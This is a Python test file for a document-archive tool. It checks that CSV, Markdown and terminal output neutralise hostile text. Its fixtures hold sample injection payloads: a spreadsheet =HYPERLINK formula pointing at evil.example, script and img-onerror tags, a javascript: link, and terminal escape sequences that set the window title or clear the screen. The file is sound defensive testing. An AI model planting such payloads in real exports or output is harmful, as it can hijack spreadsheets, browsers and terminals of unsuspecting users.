"""Exports and the terminal treat document text as data: no CSV cell a spreadsheet would run, no
HTML or link syntax passed through Markdown, nothing dropped, and no control character from a
document reaches the terminal (a title could set the window title or clear the screen)."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from pathlib import Path

import pytest

from tests.hostile.conftest import cli, crashed, record
from wpk_archive.core.archive import open_archive

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x9b31m\u202e"
PASSAGE = (
    '=HYPERLINK("http://evil.example/?x","click") The 7th Congress of the WPK opened on '
    "May 6, 2016 in Pyongyang. <script>alert(1)</script> <img src=x onerror=alert(2)> "
    "[click](javascript:alert(3)) <<Rodong Sinmun>> and what follows it must stay."
)


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, str]:
    folder = tmp_path / "archive"
    feed = tmp_path / "feed.jsonl"
    row = {
        "title": "<script>alert(0)</script> Report",
        "text": f"{PASSAGE}\n\nA second passage with escapes {ESCAPES} inside.",
        "date": "2016-05-10",
    }
    feed.write_text(json.dumps(row), encoding="utf-8")
    with open_archive(folder) as archive:
        archive.import_paths([feed])
        doc_id = next(d["id"] for d in archive.documents() if d["title"].endswith("Report"))
        doc = archive.document(doc_id)
        assert doc is not None
        p = doc.passages[0]
        for name in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", " =2+2"):
            archive.add_event(
                doc_id=doc_id, passage=1, start="2016", name=name, span=(p.start, p.start + 40)
            )
    return folder, doc_id


def test_csv_cells_are_never_formulas(hostile: tuple[Path, str], tmp_path: Path) -> None:
    folder, _ = hostile
    out = tmp_path / "timeline.csv"
    proc = cli(folder, "export", "timeline", str(out))
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    cells = [cell for row in rows[1:] for cell in row]
    risky = [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
    record(
        "timeline CSV: formulas in names and quotes", "refused" if not risky else "wrongly accepted"
    )
    assert not risky, risky
    assert any(c == "'=1+1" for c in cells) and any(c.startswith("'=HYPERLINK") for c in cells)


def test_markdown_exports_escape_html_and_links(hostile: tuple[Path, str], tmp_path: Path) -> None:
    folder, doc_id = hostile
    for what, args in (("timeline", ("timeline",)), ("document", ("document", doc_id))):
        out = tmp_path / f"{what}.md"
        proc = cli(folder, "export", *args, str(out))
        assert proc.returncode == 0, proc.stderr
        text = out.read_text(encoding="utf-8")
        raw = [bad for bad in ("<script", "<img", "<<Rodong") if bad in text]
        if re.search(r"(?<!\\)\]\(javascript:", text):  # an unescaped link
            raw.append("](javascript:")
        record(f"Markdown {what}: raw HTML and links", "refused" if not raw else "wrongly accepted")
        assert not raw, raw
        if what == "document":
            assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
            assert "&lt;&lt;Rodong Sinmun&gt;&gt; and what follows it must stay." in text


def test_the_terminal_gets_no_control_characters(hostile: tuple[Path, str]) -> None:
    folder, doc_id = hostile
    # a title stored with escapes (an older version, or another program wrote it)
    conn = sqlite3.connect(folder / "archive.sqlite")
    with conn:
        conn.execute("UPDATE documents SET title = ? WHERE id = ?", [ESCAPES + "Title", doc_id])
    conn.close()
    runs = {
        "show": cli(folder, "show", doc_id),
        "show --json": cli(folder, "show", doc_id, "--json"),
        "search": cli(folder, "search", "escapes"),
        "search --json": cli(folder, "search", "escapes", "--json"),
        "summary": cli(folder, "summary", doc_id),
        "timeline": cli(folder, "timeline"),
        "corrections list": cli(folder, "corrections", "list"),
    }
    for name, proc in runs.items():
        shown = proc.stdout + proc.stderr
        leaked = [c for c in ("\x1b", "\x07", "\x9b", "\u202e") if c in shown]
        outcome = "crashed" if crashed(proc) else ("refused" if not leaked else "wrongly accepted")
        record(f"terminal: escapes through `{name}`", outcome)
        assert outcome == "refused", (name, leaked, proc.stderr)
    assert "?]0;pwned??[2J?31m?Title" in runs["show"].stdout
    assert json.loads(runs["show --json"].stdout)["title"] == ESCAPES + "Title", "JSON keeps data"
